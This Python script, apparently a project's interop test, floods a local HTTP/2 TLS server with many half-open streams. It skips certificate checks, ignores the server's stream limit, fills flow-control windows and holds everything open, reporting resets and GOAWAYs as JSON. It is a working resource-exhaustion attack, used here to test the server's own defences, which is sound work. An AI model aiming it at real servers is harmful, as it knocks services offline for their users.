#!/usr/bin/env python3
"""Half-open HTTP/2 streams against a TLS server, as an attacker without credentials would hold them.

Opens CONNECTIONS TLS connections (ALPN h2, the certificate is not checked) and on each sends, in its very first
flight (before the server's SETTINGS are read, so an advertised stream limit cannot stop the client itself),
STREAMS requests whose HEADERS do not end the stream, then as much of BODY_BYTES per stream as the server's
flow-control windows allow. It keeps sending whenever a window opens, and holds everything open.

Prints one JSON line per phase on stdout, each with the counts so far:
  {"phase":"holding",...}  every connection sent what it could and the server answered a PING sent after it
                           (the server has read every frame: its memory holds what it kept of them)
  {"phase":"settled",...}  every stream was reset or closed by the server (only printed if that happens)
  {"phase":"done",...}     on SIGTERM/SIGINT or after --hold seconds; then it closes its connections and exits 0
Counts: connections (opened), failed (TCP/TLS failures), streams (HEADERS sent), body_bytes (DATA sent),
rst (RST_STREAM received, by error code name), goaway (GOAWAY received, by error code name), closed_by_peer
(connections the server closed), open_streams (streams neither reset nor closed now), responses (by status).

Uses the pure-Python h2 library (pinned in requirements.txt) for framing and HPACK, not the server's code.
Run it with the interop venv's python (deploy/interop-venv.sh creates it), e.g.

    .build/interop-venv/bin/python Tests/Interop/h2_attack.py --port 2198 --path /device/v1/tokens \
        --connections 20 --streams 1000 --body-bytes 65536
"""

import argparse
import json
import selectors
import signal
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def code_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(int(code))


class Counts:
    def __init__(self):
        self.connections = 0
        self.failed = 0
        self.streams = 0
        self.body_bytes = 0
        self.rst = {}
        self.goaway = {}
        self.closed_by_peer = 0
        self.responses = {}

    def as_dict(self, open_streams):
        return {
            "connections": self.connections,
            "failed": self.failed,
            "streams": self.streams,
            "body_bytes": self.body_bytes,
            "rst": self.rst,
            "goaway": self.goaway,
            "closed_by_peer": self.closed_by_peer,
            "open_streams": open_streams,
            "responses": self.responses,
        }


class AttackConnection(h2.connection.H2Connection):
    """h2's connection without its own check of the peer's stream limit: an attacker ignores it. (The check also
    walks every stream for each new one, which makes a first flight of 1000 streams quadratic.)"""

    @property
    def open_outbound_streams(self):
        return 0


class Attacker:
    """One TLS connection with its half-open streams; non-blocking, driven by the selector loop."""

    def __init__(self, sock, args, counts, selector):
        self.sock = sock
        self.selector = selector
        self.args = args
        self.counts = counts
        self.conn = AttackConnection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
        self.out = bytearray()
        self.pending = {}  # stream id -> body bytes still to send
        self.open = set()
        self.closed = False
        self.ping_outstanding = False
        self.sent_since_ping = False
        self.quiet = False
        self.ping_counter = 0

    def first_flight(self, body_bytes):
        self.conn.initiate_connection()
        headers = [
            (":method", self.args.method), (":scheme", "https"), (":authority", self.args.authority),
            (":path", self.args.path), ("content-type", "application/json"),
        ]
        for header in self.args.header:
            name, _, value = header.partition(":")
            headers.append((name.strip().lower(), value.strip()))
        if self.args.header_bytes > 0:
            headers.append(("x-padding", "p" * self.args.header_bytes))
        for _ in range(self.args.streams):
            stream_id = self.conn.get_next_available_stream_id()
            self.conn.send_headers(stream_id, headers, end_stream=False)
            self.counts.streams += 1
            self.pending[stream_id] = body_bytes
            self.open.add(stream_id)
        self.pump()
        self.out += self.conn.data_to_send()

    def pump(self):
        """Sends body bytes wherever a window allows; True if anything was sent."""
        sent = False
        chunk = memoryview(BODY)
        for stream_id in list(self.pending):
            left = self.pending[stream_id]
            while left > 0:
                try:
                    window = self.conn.local_flow_control_window(stream_id)
                except (h2.exceptions.StreamClosedError, h2.exceptions.NoSuchStreamError, KeyError):
                    left = 0
                    break
                size = min(left, window, self.conn.max_outbound_frame_size, len(BODY))
                if size <= 0:
                    break
                try:
                    self.conn.send_data(stream_id, chunk[:size].tobytes())
                except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
                    left = 0
                    break
                left -= size
                self.counts.body_bytes += size
                sent = True
            if left > 0:
                self.pending[stream_id] = left
            else:
                del self.pending[stream_id]
        if sent:
            self.sent_since_ping = True
            self.quiet = False
        return sent

    def maybe_ping(self):
        if self.closed or self.ping_outstanding or self.quiet:
            return
        self.ping_counter += 1
        self.conn.ping(self.ping_counter.to_bytes(8, "big"))
        self.ping_outstanding = True
        self.sent_since_ping = False

    def received(self, data):
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.close(by_peer=False)
            return
        for event in events:
            if isinstance(event, h2.events.StreamReset):
                name = code_name(event.error_code)
                self.counts.rst[name] = self.counts.rst.get(name, 0) + 1
                self.open.discard(event.stream_id)
                self.pending.pop(event.stream_id, None)
            elif isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers).get(":status", "?")
                self.counts.responses[status] = self.counts.responses.get(status, 0) + 1
            elif isinstance(event, h2.events.StreamEnded):
                self.open.discard(event.stream_id)
                self.pending.pop(event.stream_id, None)
            elif isinstance(event, h2.events.ConnectionTerminated):
                name = code_name(event.error_code)
                self.counts.goaway[name] = self.counts.goaway.get(name, 0) + 1
            elif isinstance(event, h2.events.PingAckReceived):
                self.ping_outstanding = False
                if not self.sent_since_ping:
                    self.quiet = True
        self.pump()

    def flush(self):
        self.out += self.conn.data_to_send()
        while self.out and not self.closed:
            try:
                n = self.sock.send(self.out)
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                return
            except OSError:
                self.close(by_peer=True)
                return
            del self.out[:n]

    def close(self, by_peer):
        if self.closed:
            return
        self.closed = True
        if by_peer:
            self.counts.closed_by_peer += 1
        self.open.clear()
        self.pending.clear()
        try:
            self.selector.unregister(self.sock)
        except (KeyError, ValueError):
            pass
        try:
            self.sock.close()
        except OSError:
            pass


BODY = b"a" * 16384


def connect(args):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((args.host, args.port), timeout=10)
    sock = context.wrap_socket(raw, server_hostname="localhost")
    sock.setblocking(False)
    return sock


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=1, help="half-open streams per connection")
    parser.add_argument("--body-bytes", type=int, default=65536, help="body bytes attempted per stream")
    parser.add_argument("--header-bytes", type=int, default=0, help="an x-padding header of this size per stream")
    parser.add_argument("--method", default="POST")
    parser.add_argument("--path", default="/")
    parser.add_argument("--authority", default="localhost")
    parser.add_argument("--header", action="append", default=[], help="'name: value', repeatable")
    parser.add_argument("--hold", type=float, default=0, help="seconds to hold after 'holding' (0: until SIGTERM)")
    args = parser.parse_args()

    counts = Counts()
    attackers = []
    selector = selectors.DefaultSelector()
    for _ in range(args.connections):
        try:
            sock = connect(args)
        except OSError:
            counts.failed += 1
            continue
        counts.connections += 1
        attacker = Attacker(sock, args, counts, selector)
        selector.register(sock, selectors.EVENT_READ, attacker)
        attacker.first_flight(args.body_bytes)
        attacker.flush()
        attackers.append(attacker)

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    signal.signal(signal.SIGINT, lambda *_: stop.append(True))

    def report(phase):
        open_streams = sum(len(a.open) for a in attackers)
        line = dict(phase=phase, **counts.as_dict(open_streams))
        print(json.dumps(line, sort_keys=True), flush=True)

    holding_since = None
    settled = False
    while not stop:
        live = [a for a in attackers if not a.closed]
        for attacker in live:
            attacker.maybe_ping()
            attacker.flush()
        if holding_since is None and all(a.quiet or a.closed for a in attackers):
            holding_since = time.monotonic()
            report("holding")
        if holding_since is not None and not settled and all(not a.open for a in attackers):
            settled = True
            report("settled")
        if holding_since is not None and args.hold > 0 and time.monotonic() - holding_since >= args.hold:
            break
        if not live:
            # Nothing left to watch: wait for the signal or the end of the hold.
            if args.hold == 0:
                while not stop:
                    signal.pause()
            else:
                time.sleep(max(0.0, args.hold - (time.monotonic() - holding_since)))
            break
        for key, mask in selector.select(timeout=0.5):
            attacker = key.data
            if attacker.closed:
                continue
            while True:
                try:
                    data = attacker.sock.recv(65536)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    break
                except OSError:
                    data = b""
                if not data:
                    attacker.close(by_peer=True)
                    break
                attacker.received(data)
                if attacker.closed:
                    break
            attacker.flush()
    report("done")
    for attacker in attackers:
        attacker.close(by_peer=False)
    return 0


if __name__ == "__main__":
    sys.exit(main())
